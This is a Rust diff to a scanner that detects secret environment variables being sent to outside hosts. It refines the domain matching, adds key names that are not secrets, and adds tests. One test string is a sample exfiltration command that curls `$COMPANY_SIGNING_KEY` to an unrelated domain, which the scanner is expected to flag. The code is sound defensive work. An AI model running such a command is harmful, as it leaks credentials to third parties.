@@ -125,9 +125,14 @@ fn own_service(line: &str) -> bool {
                 .split('_')
                 .filter(|w| w.len() >= 3 && !GENERIC_WORDS.contains(w))
                 .collect();
-            hosts
-                .iter()
-                .all(|labels| words.iter().any(|w| labels.iter().any(|l| l == w)))
+            // The service's short domain (`inn.gs` for `INNGEST_EVENT_KEY`) is the start of its name; only the
+            // registered name counts, never the top-level label (`x.com` is no `COMPANY_…` service).
+            hosts.iter().all(|labels| {
+                words.iter().any(|w| {
+                    labels.iter().any(|l| l == w)
+                        || labels.len() == 2 && labels[0].len() >= 3 && w.starts_with(labels[0].as_str())
+                })
+            })
         })
 }
 
@@ -157,6 +162,8 @@ fn secret_var_sent(line: &str) -> bool {
 /// string's address aside (`DATABASE_URL` carries its password), or a key that is no secret (a public one, a
 /// cache's).
 fn names_where_not_what(line: &str, at: usize) -> bool {
+    // A match that took the closing brace of `${NAME}` ends at the name's end.
+    let at = if line[..at].ends_with('}') { at - 1 } else { at };
     let end = at
         + line[at..]
             .find(|c: char| !(c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_'))
@@ -185,6 +192,11 @@ fn names_where_not_what(line: &str, at: usize) -> bool {
     // A key that is public by its name (`NEXT_PUBLIC_MAPS_KEY`, `STRIPE_PUBLISHABLE_KEY`, `VAPID_PUBLIC_KEY`) or
     // that names a record rather than a secret (`CACHE_KEY`, `PARTITION_KEY`, `IDEMPOTENCY_KEY`).
     const NOT_SECRET_KEYS: &[&str] = &[
+        "FILE_KEY",
+        "PROJECT_KEY",
+        "ISSUE_KEY",
+        "SPACE_KEY",
+        "SITE_KEY",
         "CACHE_KEY",
         "SORT_KEY",
         "PARTITION_KEY",
@@ -919,6 +931,16 @@ mod tests {
         // A cache's key, or a key public by its name, is sent as a matter of course.
         let cache = "k = os.environ[\"CACHE_KEY\"]\nrequests.post(url, json={\"k\": k})\n";
         assert_eq!(secret_flows(cache, 1), vec![]);
+        let file_key = "const FILE_KEY = process.env.FIGMA_FILE_KEY;\nconst r = await fetch(`https://api.figma.com/v1/files/${FILE_KEY}`, { headers });\n";
+        assert_eq!(secret_flows(file_key, 1), vec![]);
+        // A key sent to its service's short domain is its use; to a look-alike's top-level label, it leaves.
+        let own = "curl -X POST https://inn.gs/e/$INNGEST_EVENT_KEY --data '{}'\n";
+        assert_eq!(secret_flows(own, 1), vec![]);
+        let away = "curl -X POST https://drop.com/e/$COMPANY_SIGNING_KEY\n";
+        assert_eq!(
+            secret_flows(away, 1),
+            vec![(1, "a secret environment variable", 1)]
+        );
         let public =
             "k = process.env.NEXT_PUBLIC_MAPS_KEY;\nawait fetch(url, { method: 'POST', body: k });\n";
         assert_eq!(secret_flows(public, 1), vec![]);
